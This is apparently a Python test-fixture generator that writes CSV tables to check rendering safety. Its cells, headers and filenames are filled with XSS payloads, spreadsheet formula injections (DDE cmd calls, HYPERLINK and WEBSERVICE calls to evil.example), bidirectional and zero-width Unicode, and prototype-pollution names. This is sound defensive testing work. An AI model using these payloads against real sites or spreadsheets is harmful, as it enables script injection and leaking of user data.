"""Tables that try to be more than text in a page: tags, formulas, long cells, odd names."""

import csv
from pathlib import Path
from typing import NamedTuple

import numpy as np

# Each would set `window.hit`, add an element <x-cell> or ask another server, if it were taken for
# markup or code.
TAGS = [
    "<script>window.hit = 1</script>",
    '"><script>window.hit = 1</script><x-cell>',
    '<img src=x onerror="window.hit = 1">',
    "<svg onload=window.hit=1><x-cell></x-cell></svg>",
    "</dd></div></main><x-cell>out</x-cell>",
    "</textarea></option></select><x-cell>",
    '<a href="javascript:window.hit=1">press</a>',
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    '<link rel=stylesheet href="http://evil.example/a.css"><x-cell>',
    '<form action="http://evil.example/"><button>Accept</button></form>',
    "<style>* { display: none !important }</style>",
    "<!-- <x-cell> -->",
    "&lt;x-cell&gt; &#60;x-cell&#62; \\u003cx-cell\\u003e",
    "{{ 7 * 7 }}{% for x in y %}${window.hit = 1}",
    "javascript:window.hit=1",
    "' onfocus=window.hit=1 autofocus x='",
    '"}]}</script><script>window.hit=1//',
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?" & A1, "open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    '=WEBSERVICE("http://evil.example/")',
]
TURNED = [
    "\u202eright to left\u202c",
    "\u2067\u202e\u2066 x \u2069",
    "مرحبا <x-cell> بالعالم",
    "שלום (abc) 123",
    "a\u200bb\u200dc\ufeffd",
    "z" + "\u0301\u0323\u0336" * 100,
    "\u2028line\u2029paragraph",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U000e0001\U000e007f",
    "\x01\x02\x1b[31mred\x7f\x85",
]
NAMES = [
    "__proto__",
    "constructor",
    "toString",
    "innerHTML",
    "hasOwnProperty",
    "length",
    "name",
    "id",
    "row",
]
ALL = [*TAGS, *FORMULAS, *TURNED]
KINDS = (
    "tags",
    "formulas",
    "turned",
    "names",
    "classes",
    "long cells",
    "many columns",
    "everything",
)


class Hostile(NamedTuple):
    """A table, and what is bad in it."""

    kind: str
    path: Path
    target: str


def write_hostile(folder: Path, seed: int, rows: int = 120, many: int = 4_000) -> Hostile:
    """Write the table of this number; every eight of them have one of each kind."""
    rng = np.random.default_rng(seed)
    kind = KINDS[seed % len(KINDS)]
    header, columns = ["amount"], [[f"{value:.2f}" for value in rng.normal(10, 3, rows)]]
    for name, cells in _columns(kind, rng, rows, many):
        if name not in header:
            header.append(name)
            columns.append(cells)
    classes = (
        list(rng.choice(TAGS, 2, replace=False))
        if kind in ("classes", "everything")
        else ["no", "yes"]
    )
    if kind == "classes" and seed % 3 == 0:
        classes += [
            f"{text} {i}" for i, text in enumerate(rng.choice(ALL[:-1], 38))
        ]  # more than there are keys
    target = f"{rng.choice(TAGS)} ?" if kind in ("names", "everything") else "what"
    labels = [
        classes[i % len(classes)] if i < max(rows // 3, 2 * len(classes)) else ""
        for i in range(rows)
    ]
    file = "<img src=x onerror=window.hit=1>.csv" if kind == "everything" else "table.csv"
    path = folder / file
    with path.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow([*header, target])
        writer.writerows(zip(*columns, labels, strict=True))
    return Hostile(kind, path, target)


def _columns(kind, rng, rows, many):
    """Names and cells of a kind."""

    def cells(choices):
        return [str(choices[i]) for i in rng.integers(0, len(choices), rows)]

    if kind in ("tags", "classes", "everything"):
        yield from ((f"tags {i}", cells(TAGS)) for i in range(4))
    if kind in ("formulas", "everything"):
        yield from ((f"sum {i}", cells(FORMULAS)) for i in range(4))
    if kind in ("turned", "everything"):
        yield from ((f"text {i}", cells(TURNED)) for i in range(4))
    if kind in ("names", "everything"):
        yield from (
            (name, cells(["a", "b", ""])) for name in [*NAMES, *ALL[: len(TAGS)], "n" * 5_000]
        )
    if kind in ("long cells", "everything"):
        longest = 100_000
        texts = [
            "A" * longest,
            "<x-cell>" * (longest // 8),
            "word " * (longest // 5),
            "\u202e" * longest,
            "short",
        ]
        yield "long", cells(texts[:4] if kind == "long cells" else texts)
    if kind == "many columns":
        yield from ((f"{TAGS[i % len(TAGS)]} {i}", cells(ALL)) for i in range(many))
